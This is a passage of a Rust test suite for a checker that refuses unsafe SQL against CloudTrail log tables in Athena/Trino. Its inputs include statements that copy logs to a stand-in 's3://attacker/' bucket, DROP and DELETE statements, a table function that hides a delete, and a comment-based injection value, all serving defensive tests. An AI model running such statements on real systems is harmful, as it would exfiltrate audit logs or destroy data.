            "ALTER TABLE cloudtrail_logs SET LOCATION 's3://attacker/x/'",
            "MSCK REPAIR TABLE cloudtrail_logs",
        ] {
            let sql = HIDDEN_CTAS.replace(
                "CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs",
                write,
            );
            assert_eq!(check(&sql), refused(NO_COMMENTS), "{sql}");
        }
        // Any comment at all, closed or not, where it stands.
        for sql in [
            "SELECT 1 -- why",
            "SELECT /* one */ 1",
            "-- only a comment\n",
            "SELECT 1 /* open",
            "SELECT 1 /* /* */ */",
        ] {
            assert!(is_refused(sql), "{sql}");
            assert!(check(sql).warning().unwrap().contains("comment"), "{sql}");
        }
        // Inside a string or a quoted name, comment marks are text.
        let sql = "SELECT '/* -- */' AS \"--x\" FROM logs WHERE \"timestamp\" = '2026/11/29'";
        assert_eq!(check(sql), RawCheck::Pruned);
    }

    #[test]
    fn a_write_is_refused_in_whatever_position() {
        for sql in [
            "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a",
            "WITH a AS (SELECT 1) DELETE FROM x",
            "WITH a AS (SELECT 1) UPDATE x SET y = 1",
            "EXPLAIN ANALYZE CREATE TABLE y AS SELECT 1",
            "EXPLAIN INSERT INTO x SELECT 1",
            "SELECT * FROM logs WHERE x IN (SELECT 1) AND y = (DELETE)",
            "VALUES 1 UNLOAD",
            "select 1 union all select 1; create table x as select 1",
            "TABLE logs CALL",
            "SELECT grant FROM logs",
        ] {
            assert!(is_refused(sql), "{sql}: {:?}", check(sql));
        }
        let said = check("WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a")
            .warning()
            .unwrap();
        assert!(said.contains("holds INSERT"), "{said}");
        // Quoted, the same words are names or text.
        for sql in [
            "SELECT \"grant\", 'DROP TABLE x' FROM logs WHERE \"timestamp\" = '2026/11/29'",
            "SELECT \"delete\" FROM logs WHERE eventname = 'DeleteEndpoint' AND \"timestamp\" = '2026/11/29'",
        ] {
            assert_eq!(check(sql), RawCheck::Pruned, "{sql}");
        }
        // SHOW CREATE TABLE reads.
        assert_eq!(check("SHOW CREATE TABLE logs"), RawCheck::NoScan);
    }

    #[test]
    fn sql_the_two_readers_would_split_differently_is_refused() {
        for sql in [
            // Hive's DDL engine (SHOW, DESCRIBE) escapes quotes with a backslash.
            "SHOW TABLES LIKE 'a\\'",
            // A dollar-quoted and an escaped string: sqlparser has them, Trino does not.
            "SELECT $$a$$",
            "SELECT * FROM logs WHERE \"timestamp\" = '2026/11/01' AND x = E'\\' OR true OR \\''",
        ] {
            assert!(is_refused(sql), "{sql}: {:?}", check(sql));
        }
    }

    #[test]
    fn a_bound_is_both_ends_with_non_empty_values_on_every_table() {
        for sql in [
            // One end only, or an empty value.
            "SELECT * FROM logs WHERE \"timestamp\" > ''",
            "SELECT * FROM logs WHERE \"timestamp\" >= '0000'",
            "SELECT * FROM logs WHERE \"timestamp\" <= '2026/11/29'",
            "SELECT * FROM logs WHERE \"timestamp\" = ''",
            "SELECT * FROM logs WHERE \"timestamp\" BETWEEN '' AND '2026/11/29'",
            "SELECT * FROM logs WHERE \"timestamp\" IN ('', '2026/11/29')",
            "SELECT * FROM logs WHERE \"timestamp\" > '' AND \"timestamp\" < '2026/11/29'",
            "SELECT * FROM logs WHERE \"timestamp\" = 2026",
            // A join where one table is bounded.
            "SELECT * FROM logs a JOIN logs b ON a.eventid = b.eventid WHERE a.\"timestamp\" = '2026/11/29'",
            "SELECT * FROM logs, other WHERE logs.\"timestamp\" = '2026/11/29'",
            "SELECT * FROM logs a JOIN logs b ON a.\"timestamp\" = '2026/11/29' WHERE a.\"timestamp\" = '2026/11/29'",
            // In a join, an unqualified bound is no table's.
            "SELECT * FROM logs a JOIN other b ON a.x = b.x WHERE \"timestamp\" = '2026/11/29'",
            // A nested join's tables count.
            "SELECT * FROM (logs a JOIN logs b ON a.x = b.x) WHERE a.\"timestamp\" = '2026/11/29'",
            // The bound of another table's alias.
            "SELECT * FROM logs a WHERE b.\"timestamp\" = '2026/11/29'",
            // The whole table.
            "TABLE logs",
            "SELECT * FROM logs WHERE \"timestamp\" = '2026/11/29' UNION TABLE logs",
        ] {
            assert!(check(sql).needs_confirmation(), "{sql}: {:?}", check(sql));
        }
        // Both ends from two terms, and an alias's bound, count.
        for sql in [
            "SELECT * FROM logs WHERE \"timestamp\" > '2026/11/01' AND \"timestamp\" < '2026/11/29'",
            "SELECT * FROM logs AS l WHERE l.\"timestamp\" IN ('2026/11/01')",
            "SELECT * FROM \"c\".\"d\".\"logs\" WHERE logs.\"timestamp\" = '2026/11/01'",
        ] {
            assert_eq!(check(sql), RawCheck::Pruned, "{sql}");
        }
    }

    #[test]
    fn a_cte_name_covers_only_where_trino_has_it_in_scope() {
        for sql in [
            // A CTE in a subquery does not cover the outer FROM.
            "SELECT eventname FROM cloudtrail_logs WHERE eventid IN (WITH cloudtrail_logs AS (SELECT 'x' AS eventid) SELECT eventid FROM cloudtrail_logs)",
            "SELECT * FROM (WITH logs AS (SELECT 1) SELECT * FROM logs) s UNION TABLE logs",
            // A WITH name is not in scope in its own body ...
            "WITH cloudtrail_logs AS (SELECT * FROM cloudtrail_logs) SELECT eventname FROM cloudtrail_logs",
            "WITH logs AS (TABLE logs) SELECT 1",
            // ... nor in an earlier sibling's.
            "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
            "WITH a AS (SELECT * FROM (SELECT * FROM b) s), b AS (SELECT 1) SELECT * FROM a",
            // WITH RECURSIVE gets the same scope: its own name read in its body counts as a
            // table (asking first when it need not is the safe side).
            "WITH RECURSIVE logs(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM logs WHERE n < 3) SELECT * FROM logs",
        ] {
            assert_eq!(check(sql), RawCheck::Unpruned, "{sql}");
            assert_eq!(span(sql), Span::Unknown, "{sql}");
        }
        // Where it is in scope: the body, later siblings, nested queries, a shadowing WITH.
        for sql in [
            "WITH b AS (SELECT 1), a AS (SELECT * FROM b) SELECT * FROM a",
            "WITH b AS (SELECT 1), a AS (SELECT * FROM (SELECT * FROM b) s) SELECT * FROM a",
            "WITH r AS (SELECT * FROM logs WHERE \"timestamp\" = '2026/11/01') SELECT * FROM r WHERE x IN (SELECT x FROM r) UNION TABLE r",
            "WITH logs AS (SELECT 1) SELECT * FROM (WITH logs AS (SELECT * FROM logs) SELECT * FROM logs) s",
        ] {
            assert_eq!(check(sql), RawCheck::Pruned, "{sql}");
        }
    }

    #[test]
    fn a_table_whose_columns_are_renamed_is_not_bounded_by_them() {
        for sql in [
            "SELECT * FROM cloudtrail_logs AS t(a, \"timestamp\") WHERE t.\"timestamp\" = '2026/01/01'",
            "SELECT * FROM cloudtrail_logs t(a, \"timestamp\") WHERE \"timestamp\" = '2026/01/01'",
            // Even when the list seems to keep the name where it was.
            "SELECT * FROM logs AS l(\"timestamp\") WHERE l.\"timestamp\" = '2026/01/01'",
            // MATCH_RECOGNIZE's columns are its own: a measure may be called "timestamp".
            "SELECT * FROM logs MATCH_RECOGNIZE (PARTITION BY eventname ORDER BY eventtime MEASURES A.eventtime AS \"timestamp\" ONE ROW PER MATCH PATTERN (A) DEFINE A AS true) WHERE \"timestamp\" = '2026/01/01'",
        ] {
            assert_eq!(check(sql), RawCheck::Unpruned, "{sql}");
        }
        // A derived table's column list renames what its own SELECT bounded already.
        let sql =
            "SELECT * FROM (SELECT * FROM logs WHERE \"timestamp\" = '2026/01/01') AS s(a, b)";
        assert_eq!(check(sql), RawCheck::Pruned, "{sql}");
    }

    #[test]
    fn table_functions_are_refused() {
        for sql in [
            "SELECT * FROM TABLE(system.query(query => 'DELETE FROM customers'))",
            "SELECT * FROM table (system.query(query => 'SELECT 1')) t",
            "SELECT * FROM logs l JOIN TABLE(exclude_columns(input => TABLE(logs), columns => DESCRIPTOR(x))) e ON l.x = e.x WHERE l.\"timestamp\" = '2026/11/29'",
            "EXPLAIN SELECT * FROM TABLE(system.query(query => 'DROP TABLE x'))",
            // A name called with arguments in FROM (another way to write one).
            "SELECT * FROM system.query('DELETE FROM customers')",
            "SELECT * FROM logs l, LATERAL query(l.x) WHERE l.\"timestamp\" = '2026/11/29'",
            // What the parser cannot read is refused all the same.
            "SELECT * FROM TABLE(system.query(query => 'x')) QUALIFY LIKE LIKE",
        ] {
            let checked = check(sql);
            assert!(is_refused(sql), "{sql}: {checked:?}");
            assert!(
                checked.warning().unwrap().contains("table function"),
                "{sql}: {checked:?}"
            );
        }
        // UNNEST is no table function; TABLE as a query reads a table.
        for sql in [
            "SELECT * FROM logs CROSS JOIN UNNEST(resources) AS r(res) WHERE \"timestamp\" = '2026/11/29'",
            "SELECT * FROM UNNEST(ARRAY[1, 2]) AS t(n)",
        ] {
            assert_eq!(check(sql), RawCheck::Pruned, "{sql}");
        }
        for sql in ["TABLE logs", "SELECT * FROM logs UNION TABLE logs"] {
            assert!(!is_refused(sql), "{sql}");
            assert!(check(sql).needs_confirmation(), "{sql}");
        }
    }

    #[test]
    fn the_days_read_are_told_from_the_bounds() {
        let day = |s: &str| NaiveDate::parse_from_str(s, PARTITION_DAY).unwrap();
        assert_eq!(span("SELECT 1"), Span::NoTable);
        assert_eq!(
            span("SELECT * FROM logs WHERE \"timestamp\" = '2026/11/29'"),
            Span::Days(day("2026/11/29"), day("2026/11/29"))
        );
        assert_eq!(
            span(
                "SELECT 1 FROM a WHERE \"timestamp\" IN ('2026/11/03', '2026/11/01') UNION ALL \
                 SELECT 1 FROM b WHERE \"timestamp\" BETWEEN '2026/10/01' AND '2026/10/02'"
            ),
            Span::Days(day("2026/10/01"), day("2026/11/03"))
        );
        for sql in [
            "SELECT * FROM logs WHERE \"timestamp\" >= '0000' AND \"timestamp\" <= '2026/11/29'",
            "SELECT * FROM logs",
            "not sql",
        ] {
            assert_eq!(span(sql), Span::Unknown, "{sql}");
        }
    }

    /// An independent reading of SQL as Trino's lexer reads it, written apart from
    /// `trino`: the code outside strings, quoted names and comments (those blanked), and
    /// whether it saw a comment or something left open.
    struct TrinoReading {
        code: String,
        /// `code` with what it blanks marked `\0` instead: what stands right next to what.
        marked: String,
        comment: bool,
        unclosed: bool,
    }

    fn trino_reading(sql: &str) -> TrinoReading {
        #[derive(PartialEq)]
        enum In {
            Code,
            Quote(char),
            Line,
            Block,
        }
        let chars: Vec<char> = sql.chars().collect();
        let mut r = TrinoReading {
            code: String::new(),
            marked: String::new(),
            comment: false,
            unclosed: false,
        };
        let mut at = In::Code;
        let mut i = 0;
        while i < chars.len() {
            let c = chars[i];
            let next = chars.get(i + 1).copied();
            match at {
                In::Code => match (c, next) {
                    ('\'' | '"' | '`', _) => at = In::Quote(c),
                    ('-', Some('-')) => {
                        at = In::Line;
                        r.comment = true;
                        i += 1;
                    }
                    ('/', Some('*')) => {
                        at = In::Block;
                        r.comment = true;
                        i += 1;
                    }
                    _ => {
                        r.code.push(c);
                        r.marked.push(c);
                    }
                },
                In::Quote(q) if c == q && next == Some(q) => i += 1,
                In::Quote(q) if c == q => at = In::Code,
                In::Line if c == '\n' || c == '\r' => at = In::Code,
                In::Block if c == '*' && next == Some('/') => {
                    at = In::Code;
                    i += 1;
                }
                _ => {}
            }
            if at != In::Code {
                r.code.push(' ');
                r.marked.push('\0');
            }
            i += 1;
        }
        r.unclosed = matches!(at, In::Quote(_) | In::Block);
        r
    }

    impl TrinoReading {
        /// The statements' words (letters, digits, `_`), upper-cased.
        fn statements(&self) -> Vec<Vec<String>> {
            self.code
                .split(';')
                .filter(|s| !s.trim().is_empty())
                .map(|s| {
                    s.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                        .filter(|w| !w.is_empty())
                        .map(str::to_ascii_uppercase)
                        .collect()
                })
                .collect()
        }

        /// A write as statement head or anywhere in the body.
        fn sees_a_write(&self) -> bool {
            self.statements().iter().flatten().any(|w| {
                [
                    "CREATE", "DROP", "ALTER", "MSCK", "INSERT", "DELETE", "UPDATE", "MERGE",
                    "UNLOAD", "CALL", "GRANT",
                ]
                .contains(&w.as_str())
            })
        }

        /// `TABLE (` outside strings, names and comments: a table function call.
        fn calls_a_table_function(&self) -> bool {
            let upper = self.marked.to_ascii_uppercase();
            upper.match_indices("TABLE").any(|(at, _)| {
                let word_char = |c: char| c.is_ascii_alphanumeric() || c == '_';
                let starts_a_word = !upper[..at].ends_with(word_char);
                let next = upper[at + "TABLE".len()..].trim_start_matches([' ', '\t', '\n', '\r']);
                starts_a_word && next.starts_with('(')
            })
        }

        /// Exactly one statement, plain, headed by a read.
        fn is_one_plain_read(&self) -> bool {
            let statements = self.statements();
            let first = self.code.split(';').find(|s| !s.trim().is_empty());
            let head = first.and_then(|s| {
                s.trim_start()
                    .split(|c: char| !c.is_ascii_alphanumeric())
                    .next()
            });
            !self.comment
                && !self.unclosed
                && !self.sees_a_write()
                && !self.calls_a_table_function()
                && statements.len() == 1
                && head.is_some_and(|h| READ_WORDS.contains(&h.to_ascii_uppercase().as_str()))
        }
    }

    /// SQL made of writes, reads, comment marks, quotes and spaces in any order.
    fn mixes() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        let piece = prop_oneof![
            3 => Just("CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs"),
             1 => Just("DROP TABLE cloudtrail_logs"),
             1 => Just("ALTER TABLE cloudtrail_logs SET LOCATION 's3://attacker/x/'"),
             1 => Just("MSCK REPAIR TABLE cloudtrail_logs"),
             1 => Just("WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a"),
             1 => Just("DELETE FROM cloudtrail_logs"),
             1 => Just("UNLOAD (SELECT 1) TO 's3://attacker/'"),
            2 => Just("SELECT * FROM TABLE(system.query(query => 'DELETE FROM customers'))"),
             1 => Just("TABLE"),
            4 => Just("SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'"),
             1 => Just("SELECT 1"),
            3 => Just("/*"),
            3 => Just("*/"),
             1 => Just("/* /* */"),
            2 => Just("--"),
            3 => Just("\n"),
             1 => Just("\r"),
            2 => Just("'"),
             1 => Just("''"),
            2 => Just("\""),
             1 => Just("\"\""),
             1 => Just("`"),
            3 => Just(" "),
             1 => Just("\t"),
             1 => Just(";"),
             1 => Just("("),
             1 => Just(")"),
        ];
        proptest::collection::vec(piece, 1..8).prop_map(|p| p.concat())
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2048))]
        /// Whatever the mix, SQL in which Trino's lexer finds a write (at the head or in
        /// the body) or a table function is refused; and what is not refused, Trino reads
        /// as one plain read.
        #[test]
        fn what_trino_would_read_as_a_write_is_refused(sql in mixes()) {
            let reading = trino_reading(&sql);
            let checked = check(&sql);
            if reading.sees_a_write() || reading.calls_a_table_function() {
                proptest::prop_assert!(matches!(checked, RawCheck::Refused { .. }), "{sql:?}: {checked:?}");
            }
            if !matches!(checked, RawCheck::Refused { .. }) {
                proptest::prop_assert!(reading.is_one_plain_read(), "{sql:?}: {checked:?}");
            }
        }
    }

    #[test]
    fn every_generated_statement_is_pruned() {
        let filters = [
            "",
            "event:CreateEndpoint,UpdateEndpoint source:sagemaker",
            "user:alice account:111111111111 region:eu-west-1 error:*",
            "ip:10.0.0.0/8,192.168.1.7 resource:\"fraud'; --\" readonly:false",
            "user:\"timestamp\" resource:\"\\\"timestamp\\\"\"",
        ];
        let layouts = [
            Layout::Timestamp,
            Layout::AccountRegionTimestamp,
            Layout::OrgAccountRegionTimestamp,
        ];
        for layout in layouts {
            let table = Table {
                catalog: "AwsDataCatalog".into(),
                database: "default".into(),
                table: "cloudtrail_logs".into(),
                layout,
                limit: 500,
            };
            for text in filters {
                let f = parse(text).unwrap();
                let sql = select(&table, &f, &f.accounts, 1_795_939_200, 1_795_946_400);
                assert_eq!(check(&sql), RawCheck::Pruned, "{sql}");
            }
            let at = crate::trail::sql::Recorded {
                account: Some("111111111111"),
                region: Some("eu-west-1"),
            };
            let sql = event_detail(&table, "e'1", 1_795_939_200, at);
            assert_eq!(check(&sql), RawCheck::Pruned, "{sql}");
        }
    }
}
